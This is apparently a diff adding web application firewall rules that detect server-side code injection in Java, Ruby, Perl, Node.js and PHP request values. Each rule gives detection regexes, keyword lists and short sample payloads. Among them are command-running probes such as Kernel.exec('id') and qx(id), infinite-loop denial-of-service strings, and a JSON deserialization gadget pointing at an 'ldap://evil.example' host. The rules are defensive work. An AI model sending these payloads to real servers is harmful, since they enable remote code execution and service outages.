@@ -346,3 +346,202 @@ pass: thumb_array_diff(
 pass: config.array_map
 pass: date_added=2024-01-02
 pass: array_diff is a PHP function
+
+id: 300005701
+name: Java code injection: a class an exploit loads, named by its package
+# Deserialization gadgets, expression-language payloads and polymorphic JSON (`"@type"`) name
+# the classes they instantiate in full: process and class-loading classes of `java.lang`, streams
+# and files of `java.io`, sockets and URLs, `XMLDecoder`, script and naming engines, the Spring
+# contexts that load a bean file from a URL, Groovy and BeanShell interpreters, Commons
+# Collections and BeanUtils, Struts, pooled data sources that open a JNDI or JDBC URL. Real
+# values carry such names only in stack traces (exceptions, `Thread.run`), which are left out.
+type: Server Side Code Injection
+accuracy: high
+risk: high
+systems: Java Servlets/JSP
+targets: @values, header, param-name
+unless: url, binary
+literal: java.
+literal: javax.
+literal: org.apache.
+literal: org.springframework.
+literal: org.codehaus.
+literal: groovy.lang.
+literal: bsh.
+literal: org.mozilla.
+literal: sun.rmi.
+literal: com.sun.
+literal: org.omg.
+literal: com.opensymphony.
+literal: com.mchange.
+literal: ch.qos.
+literal: org.hibernate.
+literal: com.zaxxer.
+literal: freemarker.template.
+literal: org.yaml.snakeyaml
+literal: com.thoughtworks.xstream
+regex: \b(?:java\.(?:lang\.(?:(?:Process(?:Builder|Impl|Handle)?|Runtime|System|ClassLoader|Class)\b|reflect\.|invoke\.)|io\.(?:File(?:InputStream|OutputStream|Reader|Writer|Permission)?|\w*(?:Stream|Reader|Writer))\b|net\.(?:URL\w*|\w*Socket|InetAddress)\b|beans\.XMLDecoder|rmi\.|nio\.file\.)|javax\.(?:script|naming|management|el)\.|org\.apache\.(?:commons\.(?:collections|beanutils|io|configuration|fileupload)\d?|struts2?\.|xbean\.|tomcat\.dbcp|xalan|myfaces|log4j\.)|org\.springframework\.(?:context\.support|beans\.factory\.config|expression)|org\.codehaus\.groovy\.runtime|groovy\.lang\.(?:GroovyShell|GroovyClassLoader|Script)|bsh\.(?:Interpreter|XThis)|org\.mozilla\.javascript\.|sun\.rmi\.|com\.sun\.(?:rowset|jndi|org\.apache)|org\.omg\.CORBA|com\.opensymphony\.xwork2|com\.mchange\.v2\.c3p0|ch\.qos\.logback\.core\.db|org\.hibernate\.jmx|com\.zaxxer\.hikari|freemarker\.template\.utility\.|org\.yaml\.snakeyaml|com\.thoughtworks\.xstream)
+test: org.springframework.context.support.ClassPathXmlApplicationContext
+test: groovy.lang.GroovyShell
+test: freemarker.template.utility.Execute
+test: {"@type":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://evil.example/a"}
+test: java.lang.Process
+test: org.apache.commons.io.IOUtils
+pass: https://govuln.com/docs/java-things/
+pass: Java runtime environment download
+pass: https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html
+pass: java.lang.RuntimeException: java.io.FileNotFoundException: /data/app.log
+
+id: 300005702
+name: Ruby code injection: command literals, Kernel and Open3 calls, dynamic dispatch, YAML object tags
+# Ruby runs a command from `%x(...)` (backticks under another name), `Kernel.exec`/`system`/
+# `spawn`/`open("|cmd")`, `IO.popen` and `Open3`; reaches a method by name with `send(:system`,
+# evaluates strings with `instance_eval`/`class_eval`, turns a string into a class with
+# `constantize`, and `Marshal.load` and `YAML.load` build any object from data (`!ruby/object:`
+# tags name the class, as the Rails gadget chains do).
+type: Server Side Code Injection
+accuracy: high
+risk: high
+targets: @values, header, url, param-name
+unless: binary
+literal: %x
+literal: kernel
+literal: open3
+literal: popen
+literal: send
+literal: _eval
+literal: constantize
+literal: marshal
+literal: !ruby/
+literal: yaml
+regex: %x\s*[({\[<]|\bkernel\s*\.\s*(?:exec|system|spawn|open|fork|eval|syscall|`)|\bopen3\s*\.\s*(?:popen[23e]?|capture[23e]?|pipeline\w*)\b|\bio\s*\.\s*popen\b|\b(?:public_send|__send__|send)\s*\(?\s*:\s*(?:system|exec|spawn|eval|instance_eval|class_eval|popen|open|syscall|`)|\b(?:instance|class|module)_eval\s*[({'"]|\.\s*constantize\b|\bmarshal\s*\.\s*(?:load|restore)\s*\(|!ruby/(?:object|hash|struct|sym|class|module|regexp|range|exception|array|string)\b|\byaml\s*\.\s*(?:unsafe_)?load\s*\(
+test: %x(id)
+test: Kernel.exec("id")
+test: Open3.capture2("id")
+test: send(:system,"id")
+test: "id".constantize
+test: --- !ruby/object:Gem::Installer
+test: instance_eval("`id`")
+pass: ecs2;aliyun/buy-ecs2;aliyun-ecs/ecs-console-wind;aliyun/buy-kernel;aliyun/buy-ecs;dt/tracker
+pass: kernel
+pass: send the report to kernel team
+
+id: 300005703
+name: Perl code injection: code interpolated into a string, qx command literals
+# Perl runs code inside a string through an array or scalar reference that is dereferenced in
+# place, `@{[ system "id" ]}` and `${\ `id` }`, and runs a command from `qx(...)`, backticks under
+# another name.
+type: Server Side Code Injection
+accuracy: high
+risk: high
+targets: @values, header, url, param-name
+unless: binary
+literal: @{
+literal: ${\\
+literal: qx
+regex: @\{\s*\[[\s\S]{0,200}?\]\s*\}|\$\{\s*\\\s*(?:`|qx\b|system\b|exec\b|do\b|eval\b|open\b|readpipe\b)|\bqx\s*[({\[<|!]
+test: @{[system "id"]}
+test: @{[ `id` ]}
+test: ${\\ `id`}
+test: qx(id)
+# Layout tokens in real bodies hold `qx/`, a sensor blob holds `@{` with punctuation after it.
+pass: i/qr/qr/qr/qr/qs/qs+qu/2t//@j/@1d/@p/1/@i/qu/qu/qu/qv/qv/qv+qx/2u//@j/@1e/@p/1/@i/qx/qx/qx/qx/qx/qy
+pass: iAAovI#L%(@sLV[~?nA @{1ZlnI&BO(?:pvRN|w@~)9%Vlzm3&m
+
+id: 300005704
+name: Node.js denial of service: a loop that never ends, handed to an evaluating server
+# Node.js runs every request on one thread: a value evaluated as JavaScript (`eval`, `vm`, a
+# template) that loops forever stops the server. The loop's condition is a constant or its
+# negation (`while(true)`, `while(!0)`, `while(!false)`), or `for(;;)`.
+type: Server Side Code Injection
+accuracy: high
+risk: high
+systems: Node.js
+targets: @values, header, url, param-name
+unless: binary
+literal: while
+literal: ;;
+regex: \bwhile\s*\(\s*(?:!+\s*(?:0|false|null|undefined|nan|''|""|\[\s*\])|!!\s*\w+|true|1)\s*\)|\bfor\s*\(\s*;\s*;\s*\)
+test: while(!0){}
+test: while (!false) {}
+test: for(;;){}
+test: while(1);
+# JavaScript posted by a code-sharing page: a loop with a real condition.
+pass:     while (idx < this.length)
+pass: ;route_index_index_路径;;;;;browserInfo_chrome114.0_浏览器信息
+
+id: 300005705
+name: PHP code injection: legacy superglobals, or a superglobal as the whole value
+# PHP's long-form request arrays (`$HTTP_GET_VARS`, `$HTTP_POST_VARS`, `$HTTP_RAW_POST_DATA`,
+# ...) appear in no prose; a superglobal (`$_COOKIE`, `$GLOBALS`) that is a whole value on its
+# own is a probe of an evaluating parameter. In a sentence the short names stay allowed.
+type: Server Side Code Injection
+accuracy: high
+risk: high
+systems: PHP
+targets: @values, header, url, param-name
+unless: binary
+literal: $http_
+literal: $_
+literal: $globals
+regex: \$http_(?:get|post|cookie|server|env|session|post_files|request)_vars\b|\$http_raw_post_data\b|^\s*['"]?\s*\$(?:_(?:get|post|request|cookie|server|files|env|session)|globals)\s*['"]?\s*;?\s*$
+test: $HTTP_RAW_POST_DATA
+test: $HTTP_GET_VARS['x']
+test: $HTTP_SERVER_VARS
+test: $_COOKIE
+test: $GLOBALS;
+pass: $GLOBALS is PHP's array of globals
+pass: \x13\r\n\x11safeline.com\x10\x14\x10\x17\x18\x02"&\r\n$https://safeline.com/app/radar/(\x03(\x02
+
+id: 300005706
+name: PHP code injection: a high-risk PHP function named, called or not
+# Code that builds a call at run time names the function as a string (`call_user_func`,
+# `array_map`, a callback parameter), and a probe sends the name alone: the names below run
+# commands, decode hidden code, read and write files or open sockets, and no text uses them.
+type: Server Side Code Injection
+accuracy: high
+risk: high
+systems: PHP
+targets: @values, header, param-name
+unless: binary, url
+literal: __halt_compiler
+literal: apache_child_terminate
+literal: base64_decode
+literal: bzdecompress
+literal: call_user_func
+literal: call_user_method
+literal: convert_uudecode
+literal: file_get_contents
+literal: file_put_contents
+literal: fsockopen
+literal: get_class_methods
+literal: get_class_vars
+literal: get_defined_
+literal: gzdecode
+literal: gzinflate
+literal: gzuncompress
+literal: include_once
+literal: invokeargs
+literal: pcntl_
+literal: pfsockopen
+literal: posix_
+literal: reflectionfunction
+literal: require_once
+literal: shell_exec
+literal: str_rot13
+literal: sys_get_temp_dir
+literal: wp_remote_
+literal: wp_safe_remote_
+literal: zlib_decode
+literal: phpinfo
+literal: proc_open
+literal: passthru
+regex: \b(?:__halt_compiler|apache_child_terminate|base64_decode|bzdecompress|call_user_func(?:_array)?|call_user_method(?:_array)?|convert_uudecode|file_(?:get|put)_contents|p?fsockopen|get_class_(?:methods|vars)|get_defined_(?:constants|functions|vars)|gz(?:decode|inflate|uncompress)|(?:include|require)_once|invokeargs|pcntl_(?:exec|fork|signal|alarm)|posix_(?:getcwd|getpwuid|getuid|uname|kill|setuid|mkfifo)|reflectionfunction|shell_exec|str_rot13|sys_get_temp_dir|wp_(?:safe_)?remote_(?:fopen|get|head|post|request)|zlib_decode|phpinfo|proc_open|passthru)\b
+test: phpinfo
+test: shell_exec
+test: x=base64_decode
+test: call_user_func_array
+test: eval(gzinflate(str_rot13('x')))
+pass: qbase64
+pass: /system/resource/js/base64.js
+pass: https://tool.jisuapi.com/base642pic.html
